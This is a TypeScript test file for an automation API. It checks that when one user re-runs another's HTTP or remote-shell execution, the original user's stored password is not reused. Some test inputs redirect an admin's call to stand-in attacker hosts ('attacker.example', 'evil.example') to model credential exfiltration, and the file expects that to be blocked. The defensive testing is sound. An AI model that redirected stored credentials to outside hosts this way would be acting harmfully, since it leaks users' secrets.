import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiHarness, makeApiHarness } from '../api/api-harness.js';

interface Created {
  id: string;
}

describe('re-runs do not hand one user’s secrets to another', () => {
  let h: ApiHarness;
  let adminCall: string;
  beforeAll(async () => {
    h = await makeApiHarness();
    const r = await h.app.inject({
      method: 'POST',
      url: '/api/v1/executions',
      headers: h.as('admin'),
      payload: {
        action: 'core.http',
        parameters: { url: 'https://internal.example/api', username: 'admin', password: 'admin-s3cret' },
      },
    });
    expect(r.statusCode).toBe(201);
    adminCall = r.json<Created>().id;
  });
  afterAll(() => h.close());

  function rerun(role: 'admin' | 'operator', id: string, parameters: Record<string, unknown>) {
    return h.app.inject({
      method: 'POST',
      url: `/api/v1/executions/${id}/re_run`,
      headers: h.as(role),
      payload: { parameters },
    });
  }

  it('refuses an operator’s re-run of an admin’s core.http call to a new url, naming the secret', async () => {
    const r = await rerun('operator', adminCall, { url: 'https://attacker.example/' });
    expect(r.statusCode).toBe(400);
    const body = r.json<{ faultstring: string; code: string }>();
    expect(body.code).toBe('SQ_PARAMETER_INVALID');
    expect(body.faultstring).toMatch(/password: is secret: a re-run by another user.*give it again/);
    expect(body.faultstring).not.toContain('admin-s3cret');
    const stored = (await h.store.executions.list({ action: 'core.http' })).items;
    expect(stored.map((e) => e.id)).toEqual([adminCall]);
  });

  it('runs the operator’s re-run with the secret the operator gives, never the stored one', async () => {
    const r = await rerun('operator', adminCall, { url: 'https://attacker.example/', password: 'operator-own' });
    expect(r.statusCode).toBe(201);
    const e = await h.store.executions.get(r.json<Created>().id);
    // Stored sealed (the store never holds the secret in clear); what the runner gets is the given one.
    expect(e?.parameters.password).toMatch(/^sqenc1:/);
    expect(e && h.executions.parametersOf(e)).toMatchObject({
      url: 'https://attacker.example/',
      username: 'admin',
      password: 'operator-own',
    });
    expect(e?.context.user).toBe('operator');
  });

  it('keeps the secret when its owner, who may see secrets, re-runs it', async () => {
    const r = await rerun('admin', adminCall, { url: 'https://internal.example/other' });
    expect(r.statusCode).toBe(201);
    const e = await h.store.executions.get(r.json<Created>().id);
    expect(e && h.executions.parametersOf(e).password).toBe('admin-s3cret');
  });

  it('drops core.remote credentials when another user re-runs with new hosts', async () => {
    const first = await h.executions.request({
      action: 'core.remote',
      parameters: { hosts: 'db1', cmd: 'uptime', password: 'ssh-pass' },
      context: { user: 'admin' },
    });
    const r = await rerun('operator', first.id, { hosts: 'evil.example' });
    expect(r.statusCode).toBe(400);
    expect(r.json<{ faultstring: string }>().faultstring).toMatch(/password: is secret/);
  });
});
